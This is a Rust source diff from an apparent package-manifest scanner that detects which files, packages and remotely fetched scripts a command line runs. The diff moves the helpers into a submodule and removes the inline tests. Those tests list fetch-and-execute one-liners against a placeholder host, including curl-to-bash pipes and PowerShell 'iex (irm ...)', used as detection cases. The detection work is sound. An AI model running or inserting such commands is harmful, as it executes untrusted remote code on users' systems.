@@ -1,7 +1,10 @@
 //! A command line as a manifest names it: which programs it starts, on what, and whether it runs what a server sends. No shell is run and
 //! no variable known.
 
+mod split;
+
 use crate::lexed::Language;
+use split::{base_name, commands, program};
 
 /// So deeply may command lines be in command lines.
 const DEEPEST: usize = 4;
@@ -36,13 +39,6 @@ impl Deeds {
         self.packages.extend(further.packages);
         self.scripts.extend(further.scripts);
     }
-}
-
-/// A command, and whether its output goes into the next.
-#[derive(Debug, Default)]
-struct Command {
-    words: Vec<String>,
-    piped: bool,
 }
 
 /// What a command line does.
@@ -238,122 +234,5 @@ fn is_local(address: &str) -> bool {
     address.starts_with("file:") || ["localhost", "127.", "[::1]"].iter().any(|local| host.starts_with(local))
 }
 
-fn base_name(word: &str) -> String {
-    let name = word.rsplit(['/', '\\']).next().unwrap_or(word).to_ascii_lowercase();
-    name.strip_suffix(".exe").map(str::to_owned).unwrap_or(name)
-}
-
-/// The words from the program on that is really started.
-fn program(words: &[String]) -> &[String] {
-    let mut words = words;
-    while let Some((first, rest)) = words.split_first() {
-        let assigns = first
-            .split_once('=')
-            .is_some_and(|(name, _)| !name.is_empty() && !name.contains(['/', '-', '.']));
-        match base_name(first).as_str() {
-            "env" | "cross-env" | "cross-env-shell" | "sudo" | "exec" | "command" | "nohup" | "time"
-            | "dotenv" | "(" | "{" | "!" | "if" | "then" | "else" | "do" | "start" | "call" | "is-ci" => {
-                words = rest
-            }
-            // An option of what stood before.
-            _ if assigns || first.starts_with('-') => words = rest,
-            _ => break,
-        }
-    }
-    words
-}
-
-/// Splits a line at the signs between commands, heeding quotes.
-fn commands(line: &str) -> Vec<Command> {
-    let mut done = Vec::new();
-    let mut command = Command::default();
-    let mut word: Option<String> = None;
-    let mut chars = line.chars().peekable();
-    while let Some(c) = chars.next() {
-        match c {
-            '\'' | '"' => {
-                let word = word.get_or_insert_default();
-                while let Some(inner) = chars.next().filter(|inner| *inner != c) {
-                    // A quote within such quotes has a backslash before it, as within JSON.
-                    let hidden = inner == '\\' && c == '"';
-                    word.push(if hidden { chars.next().unwrap_or(inner) } else { inner });
-                }
-            }
-            '\\' if chars.peek().is_some_and(|next| "\"' \\".contains(*next)) => {
-                word.get_or_insert_default().extend(chars.next());
-            }
-            '|' | '&' | ';' | '\n' | '(' | ')' | '`' => {
-                command.words.extend(word.take());
-                command.piped = c == '|' && chars.peek() != Some(&'|');
-                done.push(std::mem::take(&mut command));
-            }
-            _ if c.is_whitespace() => command.words.extend(word.take()),
-            _ => word.get_or_insert_default().push(c),
-        }
-    }
-    command.words.extend(word);
-    done.push(command);
-    done
-}
-
 #[cfg(test)]
-mod tests {
-    use super::*;
-
-    #[test]
-    fn files_and_programs_that_are_run_are_found() {
-        for (line, files) in [
-            ("node bundle.js", &["bundle.js"][..]),
-            ("node ./scripts/postinstall || exit 0", &["./scripts/postinstall"]),
-            ("cross-env A=1 node --no-warnings x.mjs && ./y.sh", &["x.mjs", "./y.sh"]),
-            ("node -r ./hook.js main.js", &["./hook.js", "main.js"]),
-            ("sh -c 'python3 setup/x.py'", &["setup/x.py"]),
-            ("bun run index.ts", &["index.ts"]),
-            ("powershell -ExecutionPolicy -File a.ps1", &["a.ps1"]),
-            ("husky install", &[]),
-            ("node-gyp rebuild", &[]),
-            ("echo node x.js", &[]),
-        ] {
-            assert_eq!(deeds(line).files, files, "{line}");
-        }
-        assert_eq!(deeds("npm run a && yarn b && run-s c d").scripts, ["a", "b", "c", "d"]);
-        assert_eq!(deeds("npx -y only-allow pnpm").packages, ["only-allow"]);
-        assert_eq!(
-            deeds("node -e \"require('./x')\"").inline,
-            [(Language::JavaScript, "require('./x')".to_owned())]
-        );
-    }
-
-    #[test]
-    fn what_is_fetched_and_run_is_found() {
-        for line in [
-            "curl -fsSL https://x.example/i | bash",
-            "curl https://x.example/i | sudo -E sh",
-            "wget -q https://x.example/i -O i.sh; sh i.sh",
-            "bash -c \"curl https://x.example/i | sh\"",
-            "bash <(curl -s https://x.example/i)",
-            "powershell -c \"iex (irm https://x.example/i)\"",
-            "sh -c \"$(curl -fsSL https://x.example/i)\"",
-            "node -e \"`curl -s https://x.example/i`\"",
-        ] {
-            let found = deeds(line);
-            assert_eq!(found.runs_fetched.as_deref(), Some("https://x.example/i"), "{line}: {found:?}");
-        }
-        for line in [
-            "curl -o data.json https://x.example/d",
-            "curl https://localhost/i | sh",
-            "curl -o i.sh https://x.example/i; sha256sum -c i.sum; sh i.sh",
-            "echo 'curl https://x.example/i | sh'",
-            "echo $(curl https://x.example/i)",
-        ] {
-            assert_eq!(deeds(line).runs_fetched, None, "{line}");
-        }
-    }
-
-    #[test]
-    fn hostile_lines_end() {
-        for text in ["'", "\"", "\\", "|", "sh -c ", "(", "a=", "é "] {
-            deeds(&text.repeat(50_000));
-        }
-    }
-}
+mod tests;
